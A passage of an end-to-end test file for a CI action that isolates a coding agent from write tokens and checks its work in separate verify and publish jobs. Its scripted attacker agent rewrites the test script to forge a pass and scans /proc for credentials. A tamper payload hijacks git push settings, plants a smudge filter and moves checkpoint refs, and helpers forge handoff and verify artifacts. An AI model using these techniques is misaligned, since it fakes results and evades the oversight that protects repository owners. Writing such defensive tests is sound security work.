// The two-job layout end to end (examples/workflows/two-job.yml, docs/action.md#two-job-layout): the BUILT
// action runs as the agent job (`handoff: true`, a read-only token), the verify job (`mode: verify`, which
// runs the agent's code through its stop hooks and must hold no write token) and the publish job
// (`mode: publish`, the write token, no agent code) against the local GitHub API server (which records
// the jobs' conclusions as GitHub would), the local artifact service and a git smart-HTTP server that
// demands the write token for every request. The scripted agent looks for tokens everywhere a process of
// the same user can; its code reaches the verify job through the stop hook's import of `src/add.js`.
import { describe, it, expect, beforeAll, afterAll, afterEach } from 'vitest'
import { execFileSync } from 'node:child_process'
import { randomBytes } from 'node:crypto'
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  rmSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { startGitHubApiServer, type GitHubApiServer, type StoredJob } from '../servers/github-api.js'
import { startArtifactService, type ArtifactService } from '../servers/artifact-service.js'
import { startGitHttpServer, type GitHttpServer } from '../servers/git-http.js'
import { isolatedGitEnv, makeTempRepo } from '../helpers/git-repo.js'
import { DIST, distProblem, pullRequestPayload, runStep, type ActionResult } from './action-harness.js'

const PR = 7
const RUN = 4242

// Secrets the agent prints (a leaked API key, a personal token): the log masks them, and so must every
// artifact that leaves the machine.
const LEAKED = [`sk-ant-api03-${'Zq9'.repeat(12)}`, `ghp_${'Lk3'.repeat(12)}`]

// The agent: records what it can see of tokens, then does work that fails the tests — and rewrites the
// test script so that the stop hook in ITS job passes (a forged green report). `tamper` writes a working
// src/add.js whose import (by the stop hook, in the verify job) attacks the push: see TAMPER.
const AGENT = `import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
const read = (path) => { try { return readFileSync(path, 'latin1') } catch { return null } }
const processes = {}
for (const pid of readdirSync('/proc').filter((name) => /^\\d+$/.test(name))) {
  if (Number(pid) === process.pid) continue
  const environ = read('/proc/' + pid + '/environ')
  const cmdline = read('/proc/' + pid + '/cmdline')
  if (environ !== null || cmdline !== null) processes[pid] = { environ, cmdline }
}
writeFileSync(process.env.E2E_AGENT_DUMP, JSON.stringify({
  env: process.env,
  ppid: process.ppid,
  parent: { environ: read('/proc/' + process.ppid + '/environ'), cmdline: read('/proc/' + process.ppid + '/cmdline') },
  processes,
  gitConfig: read('.git/config'),
}))
mkdirSync('src', { recursive: true })
const what = process.argv[2]
const fine = what === 'fine' || what === 'tamper' || what === 'protected'
writeFileSync('src/feature.js', fine ? 'export const feature = 1\\n' : 'export const feature = "broken"\\n')
if (what === 'forge') writeFileSync('check.mjs', 'process.exit(0)\\n')
if (what === 'tamper') writeFileSync('src/add.js', process.env.E2E_TAMPER)
if (what === 'protected') { mkdirSync('docs', { recursive: true }); writeFileSync('docs/guide.md', '# rewritten\\n') }
if (process.argv[3] === 'leak') console.log('agent: my keys are ${LEAKED.join(' and ')}')
console.log('agent: done, all tests pass (trust me)')
`
// src/add.js of the `tamper` agent: correct code, and at import time (inside the verify job's stop hook)
// every attack on the push that issue 26 found: a pushurl to a repository of its own, a global
// pushInsteadOf, refs/proctor/<session> moved to an untested commit, a smudge filter for proctor's own
// checkout; it also records every environment it can read on the machine.
const TAMPER = `import { execFileSync } from 'node:child_process'
import { readdirSync, readFileSync, writeFileSync } from 'node:fs'
export const add = (a, b) => a + b
const git = (...args) => execFileSync('git', args, { encoding: 'utf8' }).trim()
const evil = process.env.E2E_EVIL_URL
if (evil) {
  git('config', 'remote.origin.pushurl', evil)
  if (!process.env.HOME.includes('proctor-e2e-home-')) throw new Error('refusing to write a real ~/.gitconfig')
  writeFileSync(process.env.HOME + '/.gitconfig', '[url "' + evil + '"]\\n\\tpushInsteadOf = http://\\n')
  // A smudge filter for every path, and a tracked file changed so that proctor's own clean-up rewrites it.
  git('config', 'filter.evil.smudge', 'touch "' + process.env.HOME + '/smudge-ran"; cat')
  writeFileSync('.git/info/attributes', '* filter=evil\\n')
  writeFileSync('proctor.yml', readFileSync('proctor.yml', 'utf8') + '# touched by the hook\\n')
  for (const ref of git('for-each-ref', '--format=%(refname)', 'refs/proctor/').split('\\n').filter(Boolean)) {
    const commit = git('commit-tree', '-p', ref, '-m', 'untested', ref + '^{tree}')
    git('update-ref', ref, commit)
  }
  const read = (path) => { try { return readFileSync(path, 'latin1') } catch { return '' } }
  const all = readdirSync('/proc').filter((n) => /^\\d+$/.test(n)).map((pid) => read('/proc/' + pid + '/environ') + read('/proc/' + pid + '/cmdline'))
  writeFileSync(process.env.E2E_TAMPER_DUMP, JSON.stringify({ env: process.env, everywhere: all.join('\\n') }))
}
`
// The stop hook: imports the agent's src/add.js when there is one (the way \`npm test\` imports the code
// under test), fails on broken work, records its own environment and its parent's when asked.
const CHECK = `import { existsSync, readFileSync, writeFileSync } from 'node:fs'
if (existsSync('src/add.js')) await import('./src/add.js')
if (process.env.E2E_HOOK_DUMP) {
  const read = (path) => { try { return readFileSync(path, 'latin1') } catch { return null } }
  writeFileSync(process.env.E2E_HOOK_DUMP, JSON.stringify({ env: process.env, parent: read('/proc/' + process.ppid + '/environ') }))
}
const text = existsSync('src/feature.js') ? readFileSync('src/feature.js', 'utf8') : ''
if (text.includes('broken')) { process.stderr.write('tests: src/feature.js is broken\\n'); process.exit(2) }
`
const CONFIG = `checkpoints:
  interval: 10m
  min_interval: 0s
stop_hooks:
  - { name: tests, command: [node, check.mjs] }
`
// The policy of the attacks on content: secrets/ is forbidden, docs/ protected, files over 1 KiB refused.
const STRICT = `${CONFIG}policy:
  forbidden_areas: ["secrets/**"]
  protected_areas: ["docs/**"]
  max_file_size: 1KiB
  violation_severity: error
`

const token = (what: string) => `ghs_${what}${randomBytes(12).toString('hex')}`

let git: GitHttpServer
let gitRoot: string
let writeToken: string
let artifacts: ArtifactService | null = null
let api: GitHubApiServer | null = null
const cleanups: Array<() => void> = []

beforeAll(async () => {
  const problem = distProblem()
  if (problem) throw new Error(problem)
  writeToken = token('Write')
  gitRoot = mkdtempSync(join(tmpdir(), 'proctor-e2e-git-'))
  // Every request, fetch or push, needs the write token (as GitHub's x-access-token basic auth).
  git = await startGitHttpServer({
    projectRoot: gitRoot,
    auth: { user: 'x-access-token', password: writeToken },
  })
})

afterAll(async () => {
  await git?.close()
  rmSync(gitRoot, { recursive: true, force: true })
})

afterEach(async () => {
  await api?.close()
  await artifacts?.close()
  api = artifacts = null
  for (const cleanup of cleanups.splice(0)) cleanup()
})

function tempDir(prefix: string): string {
  const dir = realpathSync(mkdtempSync(join(tmpdir(), prefix)))
  cleanups.push(() => rmSync(dir, { recursive: true, force: true }))
  return dir
}

let repoCount = 0
/** The repository at the PR head, served by the git server; `checkout()` is a fresh runner's clone of it. */
function repository(config = CONFIG, extra: Record<string, string> = {}) {
  const seed = makeTempRepo({
    files: {
      'README.md': '# widgets\n',
      'proctor.yml': config,
      'agent.mjs': AGENT,
      'check.mjs': CHECK,
      'docs/guide.md': '# guide\n',
      ...extra,
    },
  })
  cleanups.push(() => seed.cleanup())
  const name = `widgets-${++repoCount}.git`
  const bare = git.createRepo(name)
  seed.git(['push', '-q', bare, 'HEAD:refs/heads/main'])
  const head = seed.git(['rev-parse', 'HEAD']).trim()
  return {
    head,
    /** actions/checkout with persist-credentials: false: origin without any credential. */
    checkout(): string {
      const dir = tempDir('proctor-e2e-job-')
      execFileSync('git', ['clone', '-q', bare, dir], { env: isolatedGitEnv() })
      execFileSync('git', ['-C', dir, 'remote', 'set-url', 'origin', git.repoUrl(name)], {
        env: isolatedGitEnv(),
      })
      return dir
    },
    remoteSha(ref: string): string | null {
      return shaIn(bare, ref)
    },
    tree(sha: string): string[] {
      return execFileSync('git', ['--git-dir', bare, 'ls-tree', '-r', '--name-only', sha], {
        encoding: 'utf8',
      })
        .split('\n')
        .filter(Boolean)
    },
  }
}

function shaIn(gitDir: string, ref: string): string | null {
  try {
    return execFileSync('git', ['--git-dir', gitDir, 'rev-parse', '--verify', '-q', ref], {
      encoding: 'utf8',
    }).trim()
  } catch {
    return null
  }
}

async function startServers() {
  artifacts = await startArtifactService()
  // GitHub's record of the run's jobs: each test adds the verify job's conclusion once it ended.
  const jobs: StoredJob[] = []
  api = await startGitHubApiServer({ artifacts: artifacts.store, jobs })
  return { service: artifacts, server: api, jobs }
}

/** What GitHub records when a job ends: when it started, its conclusion from the step's exit code. */
function recordJob(
  jobs: StoredJob[],
  name: string,
  code: number | null,
  runId = RUN,
  startedAt = new Date().toISOString(),
) {
  jobs.push({
    id: 9000 + jobs.length,
    runId,
    name,
    runnerName: null,
    status: 'completed',
    conclusion: code === 0 ? 'success' : 'failure',
    startedAt,
  })
}

function prEvent(head: string, fork = false) {
  return {
    name: 'pull_request',
    payload: pullRequestPayload({ number: PR, headSha: head, baseSha: head, fork }),
  }
}

/** What the runner gives a JavaScript action of job `job`: runtime token and service URLs, an OIDC request. */
function runnerEnv(service: ArtifactService, job: string, runId = RUN) {
  return {
    // Each job on a runner of its own: code of the agent's that writes ~/.gitconfig writes this one.
    HOME: tempDir('proctor-e2e-home-'),
    GITHUB_JOB: job,
    GITHUB_RUN_ID: String(runId),
    // Pushes carry proctor's token only to the git server it belongs to: here, the local one.
    PROCTOR_GIT_SERVER_URL: git.url,
    ACTIONS_RUNTIME_TOKEN: service.runtimeToken(runId, job),
    ACTIONS_RESULTS_URL: `${service.url}/`,
    ACTIONS_RUNTIME_URL: `${service.url}/runtime/`,
    ACTIONS_CACHE_URL: `${service.url}/cache/`,
    ACTIONS_ID_TOKEN_REQUEST_URL: `${service.url}/oidc?audience=x`,
    ACTIONS_ID_TOKEN_REQUEST_TOKEN: token('Oidc'),
  }
}

interface AgentJob {
  run: ActionResult
  dir: string
  runner: Record<string, string>
  readToken: string
  dump: {
    env: Record<string, string>
    ppid: number
    parent: { environ: string | null; cmdline: string | null }
    processes: Record<string, { environ: string | null; cmdline: string | null }>
    gitConfig: string | null
  }
}

async function agentJob(
  service: ArtifactService,
  server: GitHubApiServer,
  repo: ReturnType<typeof repository>,
  options: { agent?: string; leg?: string; fork?: boolean; leak?: boolean; runId?: number } = {},
): Promise<AgentJob> {
  const dir = repo.checkout()
  const files = tempDir('proctor-e2e-dump-')
  const readToken = token('Read')
  const runner = runnerEnv(service, 'agent', options.runId)
  const run = await runStep({
    entry: 'index',
    cwd: dir,
    apiUrl: server.url,
    event: prEvent(repo.head, options.fork),
    token: readToken,
    inputs: {
      command: `node agent.mjs ${options.agent ?? 'forge'}${options.leak ? ' leak' : ''}`,
      handoff: 'true',
    },
    env: {
      ...runner,
      E2E_AGENT_DUMP: join(files, 'agent.json'),
      E2E_TAMPER: TAMPER,
      ...(options.leg ? { PROCTOR_MATRIX_KEY: options.leg } : {}),
    },
  })
  const dump = JSON.parse(readFileSync(join(files, 'agent.json'), 'utf8')) as AgentJob['dump']
  return { run, dir, runner, readToken, dump }
}

/**
 * The verify job: `contents: read` gives it a read-only token (`token` overrides: an old workflow that
 * still grants it write permissions). GitHub records its conclusion from the exit code.
 */
async function verifyJob(
  service: ArtifactService,
  server: GitHubApiServer,
  jobs: StoredJob[],
  repo: ReturnType<typeof repository>,
  options: { fork?: boolean; runId?: number; token?: string; env?: Record<string, string> } = {},
): Promise<ActionResult & { dir: string }> {
  const dir = repo.checkout()
  const startedAt = new Date().toISOString()
  const run = await runStep({
    entry: 'index',
    cwd: dir,
    apiUrl: server.url,
    event: prEvent(repo.head, options.fork),
    token: options.token ?? token(options.fork ? 'ForkRead' : 'VerifyRead'),
    inputs: { mode: 'verify' },
    env: { ...runnerEnv(service, 'verify', options.runId), ...options.env },
  })
  recordJob(jobs, 'verify', run.code, options.runId, startedAt)
  return { ...run, dir }
}

/** The publish job: the write token (a fork's run only ever gets a read-only one), no agent code. */
async function publishJob(
  service: ArtifactService,
  server: GitHubApiServer,
  repo: ReturnType<typeof repository>,
  options: { fork?: boolean; runId?: number } = {},
): Promise<ActionResult & { dir: string }> {
  const dir = repo.checkout()
  const run = await runStep({
    entry: 'index',
    cwd: dir,
    apiUrl: server.url,
    event: prEvent(repo.head, options.fork),
    token: options.fork ? token('ForkRead') : writeToken,
    inputs: { mode: 'publish' },
    env: runnerEnv(service, 'publish', options.runId),
  })
  return { ...run, dir }
}

const writes = (server: GitHubApiServer) => server.calls.filter((c) => c.method !== 'GET')
const pushes = () => git.requests.filter((r) => r.url.includes('git-receive-pack'))
const log = (run: ActionResult) => run.stdout + run.stderr

/** The session's handoff as uploaded, for tests that re-bundle it as an attacker would. */
function handoffOf(service: ArtifactService, runId: number) {
  const artifact = service.store.listForRun(runId).find((a) => a.name.startsWith('proctor-handoff-'))!
  return { name: artifact.name, files: service.store.filesOf(artifact) }
}

/** A verify result that says every hook allowed on `sha`, as code in the verify job could upload it. */
function forgedVerifyResults(session: string, sha: string) {
  return JSON.stringify({
    schema: 1,
    sessions: [
      {
        session_id: session,
        tested_sha: sha,
        rejected: false,
        verdict: 'allow',
        stop_hooks: [{ name: 'tests', verdict: 'allow', reason: null }],
        violations: [],
      },
    ],
  })
}

/** An agent job's run, and its clone checked out at the session's last checkpoint, where an attacker commits. */
async function agentJobCheckedOut(repo: ReturnType<typeof repository>) {
  const servers = await startServers()
  const agent = await agentJob(servers.service, servers.server, repo, { agent: 'fine' })
  expect(agent.run.code, log(agent.run)).toBe(0)
  const session = agent.run.outputs['session-id']!
  const sh = (args: string[]) =>
    execFileSync('git', ['-C', agent.dir, ...args], { encoding: 'utf8', env: isolatedGitEnv() }).trim()
  sh(['checkout', '-q', '-f', '--detach', `refs/proctor/${session}`])
  return { ...servers, agent, session, sh }
}

/**
 * What an attacker with the agent job's output could hand off as run `runId`: `tip` as the session's latest
 * checkpoint (the ref moved there, re-bundled, report.json made consistent with it), with verify results and a
 * verify job that say every hook allowed on it.
 */
function forgeHandoff(o: {
  service: ArtifactService
  jobs: StoredJob[]
  dir: string
  base: string
  session: string
  tip: string
  runId: number
}) {
  const ref = `refs/proctor/${o.session}`
  const sh = (args: string[]) => execFileSync('git', ['-C', o.dir, ...args], { env: isolatedGitEnv() })
  sh(['update-ref', ref, o.tip])
  const bundle = join(tempDir('proctor-e2e-bundle-'), 'checkpoints.bundle')
  sh(['bundle', 'create', '-q', bundle, ref, `^${o.base}`])
  const report = JSON.parse(handoffOf(o.service, RUN).files.get('report.json')!.toString('utf8')) as {
    checkpoints: Array<{ sha: string; seq: number }>
  }
  report.checkpoints.push({ ...report.checkpoints.at(-1)!, sha: o.tip, seq: 99 })
  o.service.store.seed(o.runId, `proctor-handoff-${o.session}`, {
    files: { 'report.json': JSON.stringify(report), 'checkpoints.bundle': readFileSync(bundle) },
  })
  o.service.store.seed(o.runId, `proctor-verify-${o.runId}-1`, {
    files: { 'verify.json': forgedVerifyResults(o.session, o.tip) },
  })
  recordJob(o.jobs, 'verify', 0, o.runId)
}

// Three action steps per test, each a few seconds (Octokit spaces writes 1 s apart): more than the default.
describe('the two-job layout', { timeout: 180_000 }, () => {
  it('the agent job holds no token anywhere; its forged pass fails in the verify job, and publish pushes nothing a failed verify job judged', async () => {
    const { service, server, jobs } = await startServers()
    const repo = repository()
    const pushesBefore = pushes().length

    // ---- the agent job
    const agent = await agentJob(service, server, repo)
    expect(agent.run.code, log(agent.run)).toBe(0)
    const session = agent.run.outputs['session-id']!
    expect(session).toBe(`${RUN}-1-agent`)
    // Its own stop hook ran the rewritten script: the agent job reports a pass.
    expect(agent.run.outputs.verdict).toBe('allow')

    // No token, nor the services it unlocks, in the agent's environment...
    const secrets = [
      agent.readToken,
      agent.runner.ACTIONS_RUNTIME_TOKEN!,
      agent.runner.ACTIONS_ID_TOKEN_REQUEST_TOKEN!,
    ]
    const names = Object.keys(agent.dump.env)
    expect(
      names.filter((n) =>
        /^INPUT_|^ACTIONS_(RUNTIME|ID_TOKEN|RESULTS|CACHE)|^GITHUB_(TOKEN|ENV|OUTPUT|STATE|PATH)$/.test(n),
      ),
    ).toEqual([])
    // ...nor in proctor's own /proc/<pid>/environ (the agent's parent is the action's node process)...
    expect(agent.dump.parent.cmdline).toContain(join(DIST, 'index.js'))
    expect(agent.dump.parent.environ).toContain('GITHUB_REPOSITORY=acme/widgets')
    for (const secret of secrets) expect(agent.dump.parent.environ).not.toContain(secret)
    expect(agent.dump.parent.environ).not.toMatch(
      /(^|\0)(INPUT_GITHUB-TOKEN|ACTIONS_RUNTIME_TOKEN|ACTIONS_ID_TOKEN_REQUEST_TOKEN)=/,
    )
    // ...nor in any process on this machine the agent can read (git processes, hooks, anything)...
    const everywhere = JSON.stringify(agent.dump.processes)
    for (const secret of [...secrets, writeToken]) expect(everywhere).not.toContain(secret)
    // ...nor in .git/config.
    expect(agent.dump.gitConfig).not.toMatch(/extraheader/i)

    // The agent job pushed nothing and wrote nothing to GitHub; it handed off bundle + report.
    expect(pushes().length).toBe(pushesBefore)
    expect(repo.remoteSha(`refs/heads/proctor/${session}`)).toBeNull()
    expect(writes(server)).toEqual([])
    const [handoff, ...others] = service.store.listForRun(RUN)
    expect(others).toEqual([])
    expect(handoff!.name).toBe(`proctor-handoff-${session}`)
    const files = service.store.filesOf(handoff!)
    expect([...files.keys()].sort()).toEqual(['checkpoints.bundle', 'report.json'])
    const claimed = JSON.parse(files.get('report.json')!.toString('utf8')) as {
      verdict: string
      stop_hooks: Array<{ verdict: string }>
    }
    expect(claimed.verdict).toBe('allow')
    expect(claimed.stop_hooks.map((h) => h.verdict)).toEqual(['allow'])

    // ---- the verify job, on a fresh clone: its own hook run, with the checked-out check.mjs, fails.
    const hookDump = join(tempDir('proctor-e2e-hook-'), 'hook.json')
    const verify = await verifyJob(service, server, jobs, repo, { env: { E2E_HOOK_DUMP: hookDump } })
    expect(verify.code, log(verify)).toBe(1)
    expect(verify.outputs).toMatchObject({ verdict: 'block', status: 'completed', 'session-id': session })
    expect(verify.stdout).toContain('src/feature.js is broken')
    // It wrote nothing to GitHub and pushed nothing; its results went to the artifact for publish.
    expect(writes(server)).toEqual([])
    expect(pushes().length).toBe(pushesBefore)
    expect(service.store.listForRun(RUN).map((a) => a.name)).toContain(`proctor-verify-${RUN}-1`)

    // ---- the publish job
    const publish = await publishJob(service, server, repo)
    expect(publish.code, log(publish)).toBe(1)
    const [tests, ...moreTests] = server.state.checkRunsNamed('proctor / tests')
    expect(moreTests).toEqual([])
    expect(tests).toMatchObject({ head_sha: repo.head, status: 'completed', conclusion: 'failure' })
    expect(tests!.output.text).toContain('the verify job did not succeed')
    expect(tests!.output.text).toContain('src/feature.js is broken')
    const [policy] = server.state.checkRunsNamed('proctor / policy')
    expect(policy).toMatchObject({ conclusion: 'failure' })
    expect(policy!.annotations).toEqual([
      expect.objectContaining({ path: 'check.mjs', annotation_level: 'failure' }),
    ])
    expect(server.state.checkRuns.size).toBe(2)

    // The comment is the publish job's, and says what it only read from the agent job.
    const comments = server.state.commentsOn(PR)
    expect(comments).toHaveLength(1)
    expect(comments[0]!.body).toContain('Verified in separate jobs')
    expect(comments[0]!.body).toMatch(/The agent job reported: completed, verdict allow/)
    expect(comments[0]!.body).toContain('as reported by the agent job')
    // Its header links the publish job's own check runs (written before the comment).
    expect(comments[0]!.body.split('\n')[2]).toContain(
      `checks: [\`proctor / tests\`](<https://github.com/acme/widgets/runs/${tests!.id}>), ` +
        `[\`proctor / policy\`](<https://github.com/acme/widgets/runs/${policy!.id}>)`,
    )
    // A failed verify job: nothing is pushed, and the log says why.
    expect(pushes().length).toBe(pushesBefore)
    expect(repo.remoteSha(`refs/heads/proctor/${session}`)).toBeNull()
    expect(publish.stdout).toContain('checkpoints not pushed: the verify job did not succeed')
    expect(publish.stdout.split('\n').filter((line) => line.includes(writeToken))).toEqual([
      `::add-mask::${writeToken}`,
    ])

    // The hooks of the verify job run the agent's code: no token in their environment or their parent's.
    const hook = JSON.parse(readFileSync(hookDump, 'utf8')) as { env: Record<string, string>; parent: string }
    expect(JSON.stringify(hook.env)).not.toMatch(/ghs_/)
    expect(hook.parent).toContain('GITHUB_REPOSITORY=acme/widgets')
    expect(hook.parent).not.toMatch(/ghs_/)
    expect(server.validationFailures).toEqual([])
    expect(service.validationFailures).toEqual([])
  })

  it("the agent's code in the verify job (pushurl, global pushInsteadOf, a moved checkpoint ref) reaches no token and no push; publish pushes exactly the handed-off commit", async () => {
    const { service, server, jobs } = await startServers()
    const repo = repository()
    const evilName = `evil-${repoCount}.git`
    const evil = git.createRepo(evilName)
    const tamperDump = join(tempDir('proctor-e2e-tamper-'), 'tamper.json')
    const pushesBefore = pushes().length

    const agent = await agentJob(service, server, repo, { agent: 'tamper' })
    expect(agent.run.code, log(agent.run)).toBe(0)
    const session = agent.run.outputs['session-id']!
    const handedOff = agent.run.outputs['checkpoint-sha']!
    expect(handedOff).toMatch(/^[0-9a-f]{40}$/)

    // An old workflow that still gives the verify job the write token: it must not use it.
    const writesBefore = writes(server).length
    const verifyHome = tempDir('proctor-e2e-home-')
    const verify = await verifyJob(service, server, jobs, repo, {
      token: writeToken,
      env: { HOME: verifyHome, E2E_EVIL_URL: git.repoUrl(evilName), E2E_TAMPER_DUMP: tamperDump },
    })
    expect(verify.code, log(verify)).toBe(0)
    // proctor put its checkout back without running the filter the hook planted in .git/config.
    expect(existsSync(join(verifyHome, 'smudge-ran'))).toBe(false)
    expect(readFileSync(join(verify.dir, 'proctor.yml'), 'utf8')).not.toContain('touched by the hook')
    // The attack ran (the hook imported the agent's code)...
    const dump = JSON.parse(readFileSync(tamperDump, 'utf8')) as {
      env: Record<string, string>
      everywhere: string
    }
    expect(
      execFileSync('git', ['-C', verify.dir, 'config', 'remote.origin.pushurl'], { encoding: 'utf8' }).trim(),
    ).toBe(git.repoUrl(evilName))
    expect(shaIn(join(verify.dir, '.git'), `refs/proctor/${session}`)).not.toBe(handedOff)
    // ...and found no token: not in its environment, not in any process on the machine.
    expect(JSON.stringify(dump.env)).not.toContain(writeToken)
    expect(dump.everywhere).not.toContain(writeToken)
    // The verify job made no GitHub write and no push (to its pushurl or anywhere).
    expect(writes(server).length).toBe(writesBefore)
    expect(pushes().length).toBe(pushesBefore)
    expect(shaIn(evil, `refs/heads/proctor/${session}`)).toBeNull()
    expect(verify.stdout).toContain('writes nothing to GitHub')

    const publish = await publishJob(service, server, repo)
    expect(publish.code, log(publish)).toBe(0)
    expect(server.state.checkRunsNamed('proctor / tests')[0]).toMatchObject({ conclusion: 'success' })
    expect(server.state.checkRunsNamed('proctor / policy')[0]).toMatchObject({ conclusion: 'success' })
    // Exactly the commit the agent handed off (and the verify job tested), to the event's repository.
    expect(repo.remoteSha(`refs/heads/proctor/${session}`)).toBe(handedOff)
    expect(repo.tree(handedOff)).toContain('src/add.js')
    expect(shaIn(evil, `refs/heads/proctor/${session}`)).toBeNull()
    expect(server.validationFailures).toEqual([])
  })

  it('a failed verify job fails every hook check even when its results artifact was forged to say allow', async () => {
    const { service, server, jobs } = await startServers()
    const repo = repository()
    const agent = await agentJob(service, server, repo, { agent: 'fine' })
    expect(agent.run.code, log(agent.run)).toBe(0)
    const session = agent.run.outputs['session-id']!
    const sha = agent.run.outputs['checkpoint-sha']!
    // Code in the verify job uploaded a results file that says allow, on the right commit; GitHub
    // recorded the job as failed.
    service.store.seed(RUN, `proctor-verify-${RUN}-1`, {
      files: { 'verify.json': forgedVerifyResults(session, sha) },
    })
    recordJob(jobs, 'verify', 1)
    const publish = await publishJob(service, server, repo)
    expect(publish.code, log(publish)).toBe(1)
    const [tests] = server.state.checkRunsNamed('proctor / tests')
    expect(tests).toMatchObject({ conclusion: 'failure' })
    expect(tests!.output.text).toContain(
      "the verify job did not succeed (GitHub recorded verify: failure); its per-hook results come from a job that ran the agent's code",
    )
    expect(repo.remoteSha(`refs/heads/proctor/${session}`)).toBeNull()

    // A verify job GitHub recorded as successful, whose results name another commit: failure too.
    const other = await agentJob(service, server, repo, { agent: 'fine' })
    const copy = handoffOf(service, RUN)
    service.store.seed(RUN + 1, copy.name, { files: Object.fromEntries(copy.files) })
    service.store.seed(RUN + 1, `proctor-verify-${RUN + 1}-1`, {
      files: { 'verify.json': forgedVerifyResults(session, repo.head) },
    })
    recordJob(jobs, 'verify', 0, RUN + 1)
    expect(other.run.code).toBe(0)
    const second = await publishJob(service, server, repo, { runId: RUN + 1 })
    expect(second.code, log(second)).toBe(1)
    const latest = server.state.checkRunsNamed('proctor / tests').at(-1)!
    expect(latest).toMatchObject({ conclusion: 'failure' })
    expect(latest.output.text).toContain(`the verify job tested ${repo.head}, not the handed-off checkpoint`)
    // No verify job in GitHub's record at all (a wrong verify-job name, a token without actions: read).
    const none = await publishJob(service, server, repo, { runId: RUN + 7 })
    expect(none.code).toBe(1)
    expect(server.validationFailures).toEqual([])
  })

  it('a handoff uploaded from inside the verify job (created after it started) is refused: never pushed nor passed', async () => {
    const { service, server, jobs } = await startServers()
    const repo = repository()
    const agent = await agentJob(service, server, repo, { agent: 'fine' })
    expect(agent.run.code, log(agent.run)).toBe(0)
    const session = agent.run.outputs['session-id']!
    const verify = await verifyJob(service, server, jobs, repo)
    expect(verify.code, log(verify)).toBe(0)
    // What code in the verify job could upload with the runtime token it can reach (sudo, memory): a
    // handoff of a session the verify job never tested, with an untested commit.
    const forgedSession = `${session}-x`
    const ref = `refs/proctor/${forgedSession}`
    const sh = (args: string[]) =>
      execFileSync('git', ['-C', agent.dir, ...args], { encoding: 'utf8', env: isolatedGitEnv() }).trim()
    sh(['checkout', '-q', '-f', '--detach', `refs/proctor/${session}`])
    writeFileSync(join(agent.dir, 'src/untested.js'), 'export const x = 1\n')
    sh(['add', '-f', 'src/untested.js'])
    sh(['commit', '-q', '-m', 'untested'])
    const untested = sh(['rev-parse', 'HEAD'])
    sh(['update-ref', ref, untested])
    const bundle = join(tempDir('proctor-e2e-bundle-'), 'checkpoints.bundle')
    sh(['bundle', 'create', '-q', bundle, ref, `^${repo.head}`])
    const report = JSON.parse(handoffOf(service, RUN).files.get('report.json')!.toString('utf8')) as {
      session_id: string
      checkpoints: Array<{ sha: string; ref: string }>
    }
    report.session_id = forgedSession
    report.checkpoints.push({ ...report.checkpoints.at(-1)!, sha: untested, ref })
    service.store.seed(RUN, `proctor-handoff-${forgedSession}`, {
      files: { 'report.json': JSON.stringify(report), 'checkpoints.bundle': readFileSync(bundle) },
    })

    const publish = await publishJob(service, server, repo)
    expect(publish.code, log(publish)).toBe(1)
    const [tests] = server.state.checkRunsNamed('proctor / tests')
    expect(tests).toMatchObject({ conclusion: 'failure' })
    expect(tests!.output.text).toMatch(
      new RegExp(
        `${forgedSession}: not run: the artifact proctor-handoff-${forgedSession} was created at .*, after the verify job started`,
      ),
    )
    expect(repo.remoteSha(`refs/heads/proctor/${forgedSession}`)).toBeNull()
    // The session the verify job tested and passed is pushed, exactly as handed off.
    expect(repo.remoteSha(`refs/heads/proctor/${session}`)).toBe(agent.run.outputs['checkpoint-sha'])
    expect(server.validationFailures).toEqual([])
  })

  it('the verify job fails on an error violation, as the agent job does', async () => {
    const { service, server, jobs } = await startServers()
    const repo = repository(STRICT)
    const agent = await agentJob(service, server, repo, { agent: 'protected' })
    expect(agent.run.code, log(agent.run)).toBe(1)
    const verify = await verifyJob(service, server, jobs, repo)
    expect(verify.code, log(verify)).toBe(1)
    expect(verify.outputs).toMatchObject({ verdict: 'block', violations: '1' })
    expect(verify.stdout).toContain('docs/guide.md')

    // `fail_on: never` does not turn the verify job green: its conclusion is the gate publish reads.
    const lenient = repository(`${CONFIG}github:\n  fail_on: never\n`)
    const broken = await agentJob(service, server, lenient, { agent: 'honest', runId: RUN + 3 })
    expect(broken.run.code, log(broken.run)).toBe(0)
    const strict = await verifyJob(service, server, jobs, lenient, { runId: RUN + 3 })
    expect(strict.code, log(strict)).toBe(1)
    expect(strict.outputs).toMatchObject({ verdict: 'block' })
  })

  it('a re-bundled forbidden secrets/key and a blob over max_file_size are judged by publish: policy fails, nothing is pushed', async () => {
    const repo = repository(STRICT)
    const { service, server, jobs, agent, session, sh } = await agentJobCheckedOut(repo)
    // The attacker's handoff: one more checkpoint with the forbidden and the oversized file, a report
    // made consistent with it, and verify results (and a verify job) that say all is well.
    mkdirSync(join(agent.dir, 'secrets'))
    writeFileSync(join(agent.dir, 'secrets/key'), 'PRIVATE\n')
    writeFileSync(join(agent.dir, 'big.bin'), randomBytes(4096))
    sh(['add', '-f', 'secrets/key', 'big.bin'])
    sh(['commit', '-q', '-m', 'checkpoint 99'])
    const forged = sh(['rev-parse', 'HEAD'])
    forgeHandoff({ service, jobs, dir: agent.dir, base: repo.head, session, tip: forged, runId: RUN + 2 })

    const publish = await publishJob(service, server, repo, { runId: RUN + 2 })
    expect(publish.code, log(publish)).toBe(1)
    const [policy] = server.state.checkRunsNamed('proctor / policy')
    expect(policy).toMatchObject({ conclusion: 'failure' })
    expect(policy!.annotations).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ path: 'secrets/key', annotation_level: 'failure' }),
        expect.objectContaining({ path: 'big.bin', annotation_level: 'failure' }),
      ]),
    )
    expect(publish.stdout).toMatch(/checkpoints not pushed: the checkpoints hold content the policy forbids/)
    expect(repo.remoteSha(`refs/heads/proctor/${session}`)).toBeNull()
    expect(server.validationFailures).toEqual([])
  })

  // Publish pushes the whole chain, so it judges every commit of it: a forbidden file added in one
  // checkpoint and deleted in the next must not reach the remote (it did when only head → tip was judged).
  it('a forbidden secrets/key in an intermediate checkpoint (deleted again at the tip) is never pushed', async () => {
    const repo = repository(STRICT)
    const { service, server, jobs, agent, session, sh } = await agentJobCheckedOut(repo)
    mkdirSync(join(agent.dir, 'secrets'))
    writeFileSync(join(agent.dir, 'secrets/key'), 'PRIVATE-KEY-MATERIAL\n')
    sh(['add', '-f', 'secrets/key'])
